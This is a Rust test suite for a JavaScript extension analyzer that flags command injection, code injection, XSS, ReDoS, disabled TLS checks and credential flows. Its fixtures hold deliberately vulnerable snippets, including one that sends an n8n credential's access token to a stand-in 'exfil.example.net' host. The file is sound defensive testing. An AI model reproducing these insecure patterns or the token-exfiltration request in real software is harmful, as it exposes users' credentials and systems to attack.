//! Behaviour of the analyzer beyond single rules: name resolution, traces, capabilities,
//! bounds on hostile input, custom rules, autofix.

use portcullis_core::{
    Analyzer, Capability, CapabilitySet, Channel, Context, Extension, FileKind, FsAccess,
    HostPattern, Origin, Output, Package, Platform, SourceFile,
};
use portcullis_js::{Config, JsAnalyzer, config_from_toml};

fn analyzer() -> JsAnalyzer {
    JsAnalyzer::new(Config::default()).expect("analyzer")
}

fn ext(platform: Platform) -> Extension {
    Extension {
        platform,
        name: "x".into(),
        version: None,
        description: None,
        manifest_path: "package.json".into(),
        entry_points: vec![],
        declared: CapabilitySet::new(),
    }
}

fn run(path: &str, text: &str, platform: Option<Platform>) -> Output {
    let a = analyzer();
    let e = platform.map(ext);
    a.analyze_text(path, text, e.as_ref())
}

fn rules_at(out: &Output, rule: &str) -> Vec<u32> {
    out.findings
        .iter()
        .filter(|f| f.rule_id == rule)
        .filter_map(|f| f.location.start_line())
        .collect()
}

#[test]
fn aliased_imports_resolve_to_qualified_names() {
    let src = r#"
import * as cp from 'child_process';
import { exec as run } from 'node:child_process';
const m = require('child_process');
const { execSync: sync } = m;
export function a(x) { cp.exec(x); }
export function b(x) { run(x); }
export function c(x) { sync(x); }
export function d(x) { const exec = (s) => s.length; exec(x); }
"#;
    let out = run("lib/index.mjs", src, Some(Platform::Npm));
    assert_eq!(rules_at(&out, "js/command-injection"), vec![6, 7, 8]);
}

#[test]
fn call_site_text_does_not_matter() {
    // A local object that happens to be called `cp` is not child_process.
    let src =
        "const cp = { exec(s) { return s; } };\nmodule.exports = function (x) { cp.exec(x); };\n";
    let out = run("index.js", src, None);
    assert!(
        rules_at(&out, "js/command-injection").is_empty(),
        "{:?}",
        out.findings
    );
}

#[test]
fn taint_trace_goes_from_source_to_sink() {
    let src = r#"
const { exec } = require('child_process');
class N {
  async execute() {
    const items = this.getInputData();
    const host = items[0].json.host;
    const cmd = buildPing(host);
    exec(cmd);
  }
}
function buildPing(h) { return `ping -c 1 ${h}`; }
module.exports = { N };
"#;
    let out = run("nodes/N.node.js", src, Some(Platform::N8n));
    let f = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/command-injection")
        .expect("finding");
    let steps: Vec<&str> = f.evidence.iter().map(|e| e.message.as_str()).collect();
    assert!(steps[0].contains("n8n input items"), "{steps:?}");
    assert!(steps.iter().any(|s| s.contains("`host`")), "{steps:?}");
    assert!(
        steps
            .iter()
            .any(|s| s.contains("parameter `h` of `buildPing`")),
        "{steps:?}"
    );
    assert!(steps.last().unwrap().contains("reaches"), "{steps:?}");
    assert_eq!(f.evidence.first().unwrap().location.start_line(), Some(5));
    assert_eq!(f.location.start_line(), Some(8));
}

#[test]
fn observed_capabilities() {
    let src = r#"
const axios = require('axios');
const fs = require('fs');
const net = require('net');
const { spawn } = require('child_process');
const BASE = 'https://api.acme.io';
class Acme {
  async execute() {
    const creds = await this.getCredentials('acmeApi');
    const domain = this.getNodeParameter('domain', 0);
    await axios.get(BASE + '/v1/me');
    await this.helpers.httpRequest({ url: `https://${domain}/api` });
    await this.helpers.httpRequest({ baseURL: creds.url, url: '/me' });
    fs.writeFileSync('/tmp/acme.json', '{}');
    spawn('git', ['status']);
    net.connect({ host: 'db.internal', port: 5432 });
    const ws = new WebSocket('wss://stream.acme.io/feed');
    const token = process.env.ACME_TOKEN;
    return [[{ json: { ws: !!ws, token: !!token } }]];
  }
}
module.exports = { Acme };
"#;
    let out = run("nodes/Acme.node.js", src, Some(Platform::N8n));
    let has = |c: &Capability| out.observed.contains(c);
    assert!(
        has(&Capability::NetworkEgress {
            channel: Channel::BackendHttp,
            host: HostPattern::Exact("api.acme.io".into())
        }),
        "{:#?}",
        out.observed
    );
    assert!(
        has(&Capability::NetworkEgress {
            channel: Channel::BackendHttp,
            host: HostPattern::UserConfigured("domain".into())
        }),
        "{:#?}",
        out.observed
    );
    assert!(
        has(&Capability::NetworkEgress {
            channel: Channel::BackendHttp,
            host: HostPattern::UserConfigured("credential acmeApi".into())
        }),
        "{:#?}",
        out.observed
    );
    assert!(has(&Capability::FileSystem {
        access: FsAccess::Write,
        path: Some("/tmp/acme.json".into())
    }));
    assert!(has(&Capability::ChildProcess {
        command: Some("git".into())
    }));
    assert!(
        has(&Capability::NetworkEgress {
            channel: Channel::RawSocket,
            host: HostPattern::Exact("db.internal".into())
        }),
        "{:#?}",
        out.observed
    );
    assert!(has(&Capability::NetworkEgress {
        channel: Channel::WebSocket,
        host: HostPattern::Exact("stream.acme.io".into())
    }));
    assert!(has(&Capability::Environment {
        variable: Some("ACME_TOKEN".into())
    }));
    let item = out
        .observed
        .iter()
        .find(|i| matches!(i.capability, Capability::ChildProcess { .. }))
        .unwrap();
    assert_eq!(item.evidence[0].line, Some(15));
    assert_eq!(item.evidence[0].source, "js/cap-child-process");
    assert_eq!(item.evidence[0].path, "nodes/Acme.node.js");
}

#[test]
fn tainted_url_is_any_host_and_dynamic_code_is_seen() {
    let src =
        "module.exports = async function (u, code) { await fetch(u); eval(code); require(u); };\n";
    let out = run("index.js", src, None);
    assert!(out.observed.contains(&Capability::NetworkEgress {
        channel: Channel::BackendHttp,
        host: HostPattern::Any
    }));
    assert!(
        out.observed
            .iter()
            .any(|i| matches!(&i.capability, Capability::DynamicCode { kind } if kind == "eval"))
    );
    assert!(out.observed.iter().any(
        |i| matches!(&i.capability, Capability::DynamicCode { kind } if kind == "dynamic require")
    ));
}

#[test]
fn html_findings_point_into_the_html_file() {
    let html = "<p>x</p>\n<script type=\"text/javascript\">\n  RED.comms.subscribe('acme/status', function (topic, msg) {\n    $('#s').html(msg.text);\n  });\n</script>\n";
    let out = run("acme.html", html, Some(Platform::NodeRed));
    assert_eq!(rules_at(&out, "js/xss"), vec![4], "{:?}", out.findings);
}

#[test]
fn unparseable_file_is_a_finding_not_a_crash() {
    let out = run("a.js", "function (", None);
    let f = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/parse-error")
        .expect("parse error");
    assert_eq!(f.location.start_line(), Some(1));
}

#[test]
fn typescript_and_top_level_return_parse() {
    let out = run(
        "a.ts",
        "const x: number = 1 as number;\nexport default x;\n",
        None,
    );
    assert!(out.findings.is_empty(), "{:?}", out.findings);
    let out = run(
        "b.js",
        "if (!module.parent) return;\nmodule.exports = 1;\n",
        None,
    );
    assert!(out.findings.is_empty(), "{:?}", out.findings);
    let out = run("c.js", "const el = <div>{1}</div>;\n", None);
    assert!(out.findings.is_empty(), "{:?}", out.findings);
}

#[test]
fn hostile_nesting_and_size_are_bounded() {
    let deep = format!("x = {}1{};", "[".repeat(50_000), "]".repeat(50_000));
    let out = run("deep.js", &deep, None);
    // Not analysed, and said so as a finding the gate cannot approve.
    assert_eq!(out.findings.len(), 1, "{:?}", out.findings);
    assert_eq!(out.findings[0].rule_id, "js/not-analysed");
    assert!(out.findings[0].has_signal(portcullis_core::rule::Signal::UnanalysedCode));
    assert!(out.findings[0].message.contains("nest"));

    // Just under the nesting limit still works.
    let ok = format!(
        "module.exports = function (x) {{ return {}x{}; }};",
        "(".repeat(300),
        ")".repeat(300)
    );
    let out = run("ok.js", &ok, None);
    assert!(out.notices.is_empty(), "{:?}", out.notices);
    assert!(out.findings.is_empty(), "{:?}", out.findings);

    let cfg = Config {
        max_file_bytes: 100,
        ..Config::default()
    };
    let a = JsAnalyzer::new(cfg).unwrap();
    let out = a.analyze_text("big.js", &"var a = 1;\n".repeat(100), None);
    assert!(
        out.findings
            .iter()
            .any(|f| f.rule_id == "js/not-analysed" && f.message.contains("size limit")),
        "{:?}",
        out.findings
    );
}

#[test]
fn long_call_chains_and_many_functions_finish() {
    // 3,000 functions that call each other: bounded by call depth and the step budget.
    let mut src = String::from("const cp = require('child_process');\n");
    for i in 0..3000 {
        src.push_str(&format!(
            "function f{i}(a, b) {{ return f{}(a + b, b) + f{}(b, a); }}\n",
            i + 1,
            i + 2
        ));
    }
    src.push_str("module.exports = f0;\n");
    let out = run("gen.js", &src, None);
    let _ = out;
}

#[test]
fn autofix_for_tls() {
    let src = "const https = require('https');\nconst agent = new https.Agent({ rejectUnauthorized: false });\n";
    let out = run("a.js", src, None);
    let f = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/tls-verification-disabled")
        .expect("finding");
    let fix = f.fix.as_ref().expect("fix");
    let r = &fix.replacements[0];
    let mut fixed = src.to_string();
    fixed.replace_range(r.start..r.end, &r.text);
    assert!(fixed.contains("rejectUnauthorized: true"));
}

#[test]
fn custom_rules_from_config() {
    let toml = r#"
[js]
disable = ["js/redos"]

[[js.rule]]
id = "acme/legacy-client"
name = "Legacy client"
severity = "medium"
short = "The legacy client sends tokens in URLs."
message = "use of {sink}"
remediation = "Use @acme/client v3."
help = "Flags the legacy client."

[[js.pattern]]
rule = "acme/legacy-client"
call = ["@acme/legacy.connect"]

[[js.rule]]
id = "acme/log-injection"
name = "Log injection"
severity = "low"
short = "Untrusted data in audit logs."
message = "{source} reaches {sink}"
remediation = "Escape newlines."

[[js.sink]]
rule = "acme/log-injection"
call = ["audit.write"]
args = [0]
"#;
    let cfg = config_from_toml(toml, None).expect("config");
    let a = JsAnalyzer::new(cfg).expect("analyzer");
    assert!(a.rules().iter().any(|r| r.id == "acme/legacy-client"));
    let src = "const legacy = require('@acme/legacy');\nconst audit = require('audit');\nconst R = /(a+)+$/;\nmodule.exports = function (msg) {\n  legacy.connect();\n  audit.write(msg);\n};\n";
    let out = a.analyze_text("index.js", src, None);
    assert_eq!(rules_at(&out, "acme/legacy-client"), vec![5]);
    assert_eq!(rules_at(&out, "acme/log-injection"), vec![6]);
    assert!(rules_at(&out, "js/redos").is_empty());
}

#[test]
fn bad_custom_rules_are_errors_naming_the_file() {
    let err = config_from_toml("[js]\nbogus = 1\n", None).unwrap_err();
    assert!(err.to_string().contains("portcullis.toml"), "{err}");
    let cfg = Config {
        rules: vec!["/nonexistent/acme.toml".into()],
        ..Config::default()
    };
    let err = JsAnalyzer::new(cfg).unwrap_err();
    assert!(err.to_string().contains("/nonexistent/acme.toml"), "{err}");
    let cfg = Config {
        disable: vec!["js/nope".into()],
        ..Config::default()
    };
    assert!(JsAnalyzer::new(cfg).is_err());
}

#[test]
fn analyzer_trait_wires_files_and_marks_tests() {
    let a = analyzer();
    let file = SourceFile::new(
        "test/exec.test.js",
        FileKind::JavaScript,
        b"const cp = require('child_process');\nmodule.exports = (x) => cp.exec(x);\n".to_vec(),
    );
    let pkg = Package {
        source: "x".into(),
        origin: Origin::Directory,
        sha256: String::new(),
        files: vec![file.clone()],
    };
    let cx = Context {
        package: &pkg,
        extension: None,
    };
    assert!(a.wants(&file));
    assert!(!a.wants(&SourceFile::new(
        "a.d.ts",
        FileKind::TypeDeclaration,
        b"".to_vec()
    )));
    let out = a.analyze_file(&file, &cx);
    let f = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/command-injection")
        .expect("finding");
    assert!(f.tags.iter().any(|t| t == "test-or-example"));
    assert_eq!(a.name(), "js");
    for r in a.rules() {
        assert!(r.id.starts_with("js/"));
        assert!(!r.help.is_empty(), "{} has no help", r.id);
    }
}

fn credentials_observed(out: &Output) -> Vec<(String, Vec<String>, Vec<HostPattern>, u32)> {
    out.observed
        .iter()
        .filter_map(|i| match &i.capability {
            Capability::Credential {
                name,
                secret_fields,
                bound_hosts,
                ..
            } => Some((
                name.clone(),
                secret_fields.clone(),
                bound_hosts.clone(),
                i.evidence.first().and_then(|e| e.line).unwrap_or(0),
            )),
            _ => None,
        })
        .collect()
}

#[test]
fn credential_sent_to_a_known_host_is_an_observed_capability() {
    let src = r#"
export class Acme {
  async execute() {
    const creds = await this.getCredentials('acmeApi');
    const base = this.getNodeParameter('baseUrl', 0);
    await this.helpers.httpRequest({
      url: 'https://api.acme.io/v1/me',
      headers: { Authorization: `Bearer ${creds.apiKey}` },
    });
    await this.helpers.httpRequest({
      baseURL: 'https://exfil.example.net',
      url: '/collect',
      body: { token: creds.accessToken },
    });
    await this.helpers.requestWithAuthentication.call(this, 'acmeApi', {
      uri: 'https://auth.acme.io/oauth/token',
    });
    // A user-configured base URL: no host known, nothing recorded.
    await this.helpers.httpRequest({ url: `${base}/x`, headers: { k: creds.apiKey } });
    // No credential in the request.
    await this.helpers.httpRequest({ url: 'https://status.acme.io/ping' });
  }
}
"#;
    let out = run("nodes/Acme.node.ts", src, Some(Platform::N8n));
    let got = credentials_observed(&out);
    assert_eq!(
        got,
        vec![
            (
                "acmeApi".to_string(),
                vec![],
                vec![HostPattern::Exact("auth.acme.io".into())],
                15
            ),
            (
                "acmeApi".to_string(),
                vec!["accessToken".to_string()],
                vec![HostPattern::Exact("exfil.example.net".into())],
                10
            ),
            (
                "acmeApi".to_string(),
                vec!["apiKey".to_string()],
                vec![HostPattern::Exact("api.acme.io".into())],
                6
            ),
        ],
        "{:#?}",
        out.observed
    );
    assert!(
        out.observed
            .iter()
            .all(|i| i.evidence.iter().all(|e| e.path == "nodes/Acme.node.ts")),
    );
}

#[test]
fn node_red_credentials_are_named_after_the_node_type() {
    let src = r#"
module.exports = function (RED) {
  function Sensor(config) {
    RED.nodes.createNode(this, config);
    const node = this;
    node.on('input', async function (msg) {
      await fetch('https://api.sensor.io/v2/read', {
        headers: { 'x-api-key': node.credentials.apiKey },
      });
    });
  }
  RED.nodes.registerType('acme-sensor', Sensor, { credentials: { apiKey: { type: 'password' } } });
};
"#;
    let out = run("sensor.js", src, Some(Platform::NodeRed));
    let got = credentials_observed(&out);
    assert_eq!(got.len(), 1, "{:#?}", out.observed);
    assert_eq!(got[0].0, "acme-sensor");
    assert_eq!(got[0].1, vec!["apiKey".to_string()]);
    assert_eq!(got[0].2, vec![HostPattern::Exact("api.sensor.io".into())]);
}

#[test]
fn bundled_code_is_downranked_but_platform_taint_is_kept() {
    let lib =
        "export function f(p) { return eval(p); }\nexport function g() { process.exit(1); }\n";
    // Library-mode flows inside a vendored dependency are informational.
    for path in [
        "node_modules/left-pad/index.js",
        "resources/vendor/lib.js",
        "dist/lib.min.js",
    ] {
        let out = run(path, lib, None);
        let f = out
            .findings
            .iter()
            .find(|f| f.rule_id == "js/code-injection")
            .unwrap_or_else(|| panic!("{path}: {:?}", out.findings));
        assert_eq!(f.severity, portcullis_core::Severity::Info, "{path}");
        assert_eq!(f.confidence, portcullis_core::Confidence::Low, "{path}");
        assert!(f.tags.iter().any(|t| t == "bundled"), "{path}");
        assert!(f.message.contains("lowered to informational"), "{path}");
    }
    // A generated file with very long lines and a source map, shipped in an n8n package.
    let long = format!(
        "var a=1;{}\nclass N{{async execute(){{const x=this.getInputData();require('child_process').exec(x[0].json.cmd);process.exit(1)}}}}\n//# sourceMappingURL=N.js.map\n",
        "a+=1;".repeat(600)
    );
    let out = run("dist/N.node.js", &long, Some(Platform::N8n));
    let cmd = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/command-injection")
        .expect("platform taint kept");
    assert_ne!(cmd.severity, portcullis_core::Severity::Info);
    assert!(cmd.tags.iter().any(|t| t == "bundled"));
    let exit = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/process-control")
        .expect("pattern reported");
    assert_eq!(exit.severity, portcullis_core::Severity::Info);
    // Ordinary compiled output (short lines, source map) is the extension's own code.
    let tsc = "class N{async execute(){process.exit(1)}}\n//# sourceMappingURL=N.js.map\n";
    let out = run("dist/nodes/N.node.js", tsc, Some(Platform::N8n));
    let exit = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/process-control")
        .expect("own code");
    assert_ne!(exit.severity, portcullis_core::Severity::Info);
    assert!(!exit.tags.iter().any(|t| t == "bundled"));
}

#[test]
fn command_line_entry_points_may_exit() {
    let src = "#!/usr/bin/env node\nconst x = require('./n8n-node');\nprocess.exit(0);\n";
    let out = run("bin/setup.js", src, Some(Platform::N8n));
    assert!(rules_at(&out, "js/process-control").is_empty());
    let out = run(
        "nodes/X.node.js",
        "class X { execute() { process.exit(0); } }\n",
        Some(Platform::N8n),
    );
    assert_eq!(rules_at(&out, "js/process-control"), vec![1]);
}

#[test]
fn regexes_through_objects_arrays_and_constant_joins() {
    let src = r#"
var QUERIES = [
  { regexp: /^last\s+(\d+)\s+versions?$/i, select: 1 },
  { regexp: /^\s*(>=?|<=?)\s*(\d*\.?\d+)%$/, select: 2 },
];
var reN = '\\s*([+-]?\\d*\\.?\\d+)\\s*';
var reRgb = new RegExp('^rgb\\(' + [reN, reN, reN] + '\\)$');
var ANSI = ['[\\u001B][[\\]()#;?]*(?:(?:[a-z\\d]*(?:;[a-z\\d]*)*)?\\u0007)', 'x'].join('|');
export function query(selection) {
  for (var i = 0; i < QUERIES.length; i++) {
    var match = selection.match(QUERIES[i].regexp);
    if (match) return match;
  }
}
export function rgb(s) {
  return reRgb.exec(s);
}
export function ansi() {
  return new RegExp(ANSI, 'g');
}
"#;
    let out = run("index.js", src, Some(Platform::Npm));
    let lines = rules_at(&out, "js/redos");
    // The use sites of the table's and the built regex, and the exported constant regex.
    assert!(lines.contains(&11), "{lines:?} {:#?}", out.findings);
    assert!(lines.contains(&16), "{lines:?}");
    assert!(lines.contains(&19), "{lines:?}");
    let exported = out
        .findings
        .iter()
        .find(|f| f.rule_id == "js/redos" && f.location.start_line() == Some(19))
        .unwrap();
    assert!(exported.message.contains("exports it"));
}

/// A by-design sink is not an injection, but the capability it exercises is still recorded,
/// with the line of the call, for the capability check against the manifest.
#[test]
fn by_design_sinks_are_capabilities_with_their_location() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/by-design");
    let cases = [
        ("sendmail.js", "child-process", "js/command-injection"),
        ("subcommands.js", "child-process", "js/command-injection"),
        ("view.js", "dynamic-code", "js/code-injection"),
        ("template.js", "dynamic-code", "js/code-injection"),
    ];
    for (file, kind, rule) in cases {
        let text = std::fs::read_to_string(format!("{dir}/{file}")).expect("fixture");
        let out = run(file, &text, None);
        assert!(
            rules_at(&out, rule).is_empty(),
            "{file}: {:?}",
            out.findings
        );
        let item = out
            .observed
            .iter()
            .find(|i| i.capability.kind() == kind)
            .unwrap_or_else(|| panic!("{file}: no {kind} capability: {:#?}", out.observed));
        assert!(
            item.evidence
                .iter()
                .all(|e| e.path == file && e.line.is_some()),
            "{file}: {:?}",
            item.evidence
        );
    }
    // The same sinks reached by request data, or through a shell, stay injections.
    let text = std::fs::read_to_string(format!("{dir}/injected.js")).expect("fixture");
    let out = run("injected.js", &text, None);
    assert_eq!(
        rules_at(&out, "js/command-injection").len(),
        3,
        "{:?}",
        out.findings
    );
    assert_eq!(
        rules_at(&out, "js/code-injection").len(),
        2,
        "{:?}",
        out.findings
    );
}
